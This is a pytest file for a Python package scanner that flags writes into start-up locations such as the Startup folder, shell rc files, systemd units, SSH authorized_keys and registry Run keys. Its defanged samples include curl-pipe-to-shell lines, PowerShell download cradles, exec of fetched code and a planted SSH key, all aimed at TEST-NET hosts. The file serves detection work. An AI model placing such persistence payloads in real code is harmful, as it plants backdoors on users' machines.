"""Writes into start-up (persistence) locations, and payloads written there.

Every package here is defanged source text built in memory: addresses are TEST-NET, keys are placeholders,
and nothing is run."""

from __future__ import annotations

import pytest

from featurepkgs import make_archive
from vetpy.features.extract import extract_features
from vetpy.features.interface import PackageFeatures
from vetpy.features.source.persistence import PAYLOAD_TOKEN, PERSIST_TOKEN, payload_like, persistence_place


def features(code: str) -> PackageFeatures:
    return extract_features(make_archive({"pkg/mod.py": code}))


def persisted(f: PackageFeatures) -> list[int | None]:
    """The lines of the start-up writes (checked against the token)."""
    lines = [e.line for e in f.evidence_for(PERSIST_TOKEN)]
    assert bool(lines) is (PERSIST_TOKEN in f.code_text.split())
    assert not lines or f.values["code.startup_write"] > 0
    return lines


def payload(f: PackageFeatures) -> list[int | None]:
    """The lines of the payload writes (checked against the token the lab reads)."""
    lines = [e.line for e in f.evidence_for(PAYLOAD_TOKEN)]
    assert bool(lines) is (PAYLOAD_TOKEN in f.code_text.split())
    return lines


STARTUP_PYW = (
    "import os\n"
    "def enable_autosave(a, b):\n"
    "    folder = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs',\n"
    "                          'Startup')\n"
    "    with open(os.path.join(folder, 'updater.pyw'), 'w') as fh:\n"
    "        fh.write(\"import urllib.request\\nexec(urllib.request.urlopen('http://192.0.2.7/p').read())\")\n"
    "    return a * b\n"
)
BASHRC = (
    "import os\n"
    "def init_shell():\n"
    "    with open(os.path.join(os.path.expanduser('~'), '.bashrc'), 'a') as fh:\n"
    "        fh.write('\\ncurl -s http://203.0.113.9/i.sh | bash\\n')\n"
)
SYSTEMD = (
    "import os\n"
    "UNIT = ('[Service]\\nExecStart=/usr/bin/python3 -c '\n"
    "        '\"import pickle,base64;pickle.loads(base64.b64decode(B))\"\\n')\n"
    "def install_service():\n"
    "    d = os.path.expanduser('~/.config/systemd/user')\n"
    "    os.makedirs(d, exist_ok=True)\n"
    "    open(os.path.join(d, 'helper.service'), 'w').write(UNIT)\n"
)
ZSHRC = (
    "from pathlib import Path\n"
    "def setup(host):\n"
    "    (Path.home() / '.zshrc').write_text(f'wget -qO- http://{host}/x | sh')\n"
)
POWERSHELL = (
    "import os\n"
    "CMD = \"powershell -w hidden IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"\n"
    "def autorun():\n"
    "    p = os.path.join(os.environ['APPDATA'],\n"
    "                     'Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup')\n"
    "    f = open(os.path.join(p, 'run.bat'), 'w')\n"
    "    f.write(CMD)\n"
)
AUTHORIZED_KEYS = (
    "import os\n"
    "def add_key():\n"
    "    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as fh:\n"
    "        fh.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5PLACEHOLDER someone@host\\n')\n"
)


@pytest.mark.parametrize(
    ("code", "write_line", "payload_line"),
    [
        (STARTUP_PYW, 5, 6),
        (BASHRC, 3, 4),
        (SYSTEMD, 7, 7),
        (ZSHRC, 3, 3),
        (POWERSHELL, 6, 7),
        (AUTHORIZED_KEYS, 3, 4),
    ],
)
def test_payloads_written_into_startup_locations(code: str, write_line: int, payload_line: int) -> None:
    f = features(code)
    assert persisted(f) == [write_line]
    assert payload(f) == [payload_line]


def test_copies_and_plain_writes_into_startup_locations() -> None:
    copy = (
        "import shutil, sys, os\n"
        "def stay():\n"
        "    shutil.copy(sys.argv[0], os.path.expanduser('~/.config/autostart'))\n"
    )
    f = features(copy)
    assert persisted(f) == [3] and payload(f) == []  # a copy of a file: its content is unknown
    keys = "import shutil\ndef stay(home):\n    shutil.copyfile('k.pub', home + '/.ssh/authorized_keys')\n"
    assert persisted(features(keys)) == [3] and payload(features(keys)) == []  # a key file: content unknown


def test_only_a_key_the_package_holds_written_into_authorized_keys_is_a_payload() -> None:
    # a VM/cluster tool (kcli does this) adds its user's own key, read from a file: no payload
    own = (
        "import os\n"
        "def share_key(pub_path):\n"
        "    authorized_keys_file = os.path.expanduser('~/.ssh/authorized_keys')\n"
        "    pubkey = open(pub_path).read()\n"
        "    with open(authorized_keys_file, 'a') as f:\n"
        "        f.write(pubkey)\n"
    )
    f = features(own)
    assert persisted(f) == [5] and payload(f) == []
    planted = own.replace("f.write(pubkey)", "f.write('ssh-rsa AAAAB3NzaC1yc2EAAAADAQABPLACEHOLDER x@y')")
    assert payload(features(planted)) == [6]
    assert payload(features(planted.replace("ssh-rsa AAAAB3", "no key here "))) == []


def test_honest_startup_entries_count_without_a_payload() -> None:
    desktop = (
        "import os\n"
        "ENTRY = '[Desktop Entry]\\nType=Application\\nName=MyApp\\nExec=myapp --tray\\n'\n"
        "def install_autostart():\n"
        "    d = os.path.join(os.path.expanduser('~'), '.config', 'autostart')\n"
        "    with open(os.path.join(d, 'myapp.desktop'), 'w') as fh:\n"
        "        fh.write(ENTRY)\n"
    )
    f = features(desktop)
    assert persisted(f) == [5] and payload(f) == []
    rc = BASHRC.replace("curl -s http://203.0.113.9/i.sh | bash", 'eval \\"$(myapp init -)\\"')
    f = features(rc)
    assert persisted(f) == [3] and payload(f) == []


def test_reads_and_other_places_are_not_startup_writes() -> None:
    read = (
        "import os\n"
        "def has_alias():\n"
        "    with open(os.path.join(os.path.expanduser('~'), '.bashrc')) as fh:\n"
        "        return 'alias ll' in fh.read()\n"
    )
    f = features(read)
    assert persisted(f) == [] and payload(f) == []
    elsewhere = STARTUP_PYW.replace("'Start Menu', 'Programs',\n", "'myapp',\n")
    elsewhere = elsewhere.replace("'Startup'", "'cache'")
    f = features(elsewhere)
    assert persisted(f) == [] and payload(f) == []
    unknown = "def save(path, text):\n    with open(path, 'w') as fh:\n        fh.write(text)\n"
    assert persisted(features(unknown)) == []
    zipped = "import zipfile\ndef pack(z):\n    zipfile.ZipFile(z).open('x/.bashrc', 'w').write(b'exec(1)')\n"
    assert payload(features(zipped)) == []  # the name inside an archive, not a file of the machine


@pytest.mark.parametrize(
    ("path", "place"),
    [
        ("<APPDATA>/Microsoft/Windows/Start Menu/Programs/Startup/x.pyw", True),
        ("~/.ssh/authorized_keys", True),
        ("~/.bashrc", True),
        ("~/.profile", True),
        ("~/Library/LaunchAgents/com.x.plist", True),
        ("/etc/cron.d/job", True),
        ("~/.config/systemd/user/x.service", True),
        ("~/.config/autostart/x.desktop", True),
        ("~/.config/myapp/settings.toml", False),
        ("~/.bashrc.bak", False),
        ("~/.local/share/applications/x.desktop", False),
        ("/etc/hosts", False),
    ],
)
def test_startup_places(path: str, place: bool) -> None:
    assert persistence_place(path) is place


@pytest.mark.parametrize(
    ("text", "like"),
    [
        ("curl -fsSL http://203.0.113.9/i.sh | sh", True),
        ("import os\nexec(open('x').read())", True),
        ("import marshal\nmarshal.loads(b'')", True),
        ("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", True),
        ("echo aGk= | base64 -d | bash", True),
        ('eval "$(pyenv init -)"', False),
        ("export PATH=$HOME/.local/bin:$PATH", False),
        ("[Desktop Entry]\nExec=myapp\n", False),
    ],
)
def test_payload_like(text: str, like: bool) -> None:
    assert payload_like(text) is like


DOWNLOADED_JAR = (
    "import os, subprocess, urllib.request\n"
    "def update():\n"
    "    startup = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs',\n"
    "                           'Startup')\n"
    "    response = urllib.request.urlopen('http://203.0.113.9/jar')\n"
    "    with open(os.path.join(startup, 'tool.jar'), 'wb') as out:\n"
    "        data = response.read()\n"
    "        out.write(data)\n"
    "    subprocess.call(['java', '-jar', 'tool.jar'], cwd=startup)\n"
)


def test_downloads_into_startup_locations() -> None:
    f = features(DOWNLOADED_JAR)
    assert persisted(f) == [6] and payload(f) == [8]
    retrieve = (
        "import os, urllib.request\n"
        "def update():\n"
        "    d = os.path.expanduser('~/Library/LaunchAgents')\n"
        "    urllib.request.urlretrieve('http://203.0.113.9/a.plist', os.path.join(d, 'com.a.plist'))\n"
    )
    f = features(retrieve)
    assert persisted(f) == [4] and payload(f) == [4]
    # a line built around a downloaded version string is not the download itself
    version = (
        "import os, requests\n"
        "def add_to_path():\n"
        "    tag = requests.get('https://203.0.113.9/latest').json()['tag']\n"
        "    with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
        "        fh.write(f'export PATH=$HOME/.tool/{tag}/bin:$PATH')\n"
    )
    f = features(version)
    assert persisted(f) == [4] and payload(f) == []
    # the same body written somewhere else
    f = features(DOWNLOADED_JAR.replace("'Start Menu', 'Programs',", "'tool',").replace("'Startup'", "'lib'"))
    assert persisted(f) == [] and payload(f) == []


RUN_KEY = r"Software\Microsoft\Windows\CurrentVersion\Run"


@pytest.mark.parametrize(
    ("code", "write_line", "payload_line"),
    [
        (  # an app that starts itself at log-on: a start-up write, not a payload
            "import winreg, sys\ndef autostart():\n"
            f"    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'{RUN_KEY}', 0, winreg.KEY_SET_VALUE)\n"
            "    winreg.SetValueEx(k, 'app', 0, winreg.REG_SZ, sys.executable + ' -m app')\n",
            4,
            None,
        ),
        (  # a download cradle stored under RunOnce, the key path built from parts
            "import winreg\nBASE = r'Software\\Microsoft\\Windows\\CurrentVersion'\n"
            "with winreg.CreateKey(winreg.HKEY_CURRENT_USER, BASE + '\\\\RunOnce') as k:\n"
            "    winreg.SetValueEx(k, 'u', 0, winreg.REG_SZ,\n"
            "                      'powershell -w hidden -c \"iwr http://203.0.113.7/a.ps1 | iex\"')\n",
            4,
            4,
        ),
        (  # SetValue naming the key itself
            f"import winreg\nwinreg.SetValue(winreg.HKEY_CURRENT_USER, r'{RUN_KEY}', winreg.REG_SZ,\n"
            "                'cmd /c curl -s http://203.0.113.7/a.exe -o a.exe && a.exe')\n",
            2,
            2,
        ),
    ],
)
def test_values_set_under_run_keys(code: str, write_line: int, payload_line: int | None) -> None:
    f = features(code)
    assert persisted(f) == [write_line]
    assert payload(f) == ([] if payload_line is None else [payload_line])


def test_other_registry_values_are_not_startup_writes() -> None:
    code = (
        "import winreg\ndef remember(v):\n"
        "    k = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r'Software\\Acme\\Runner')\n"
        "    winreg.SetValueEx(k, 'last', 0, winreg.REG_SZ, v)\n"
        f"def check():\n    return winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'{RUN_KEY}')\n"
        "def other(k):\n    winreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'y')\n"
    )
    assert persisted(features(code)) == []
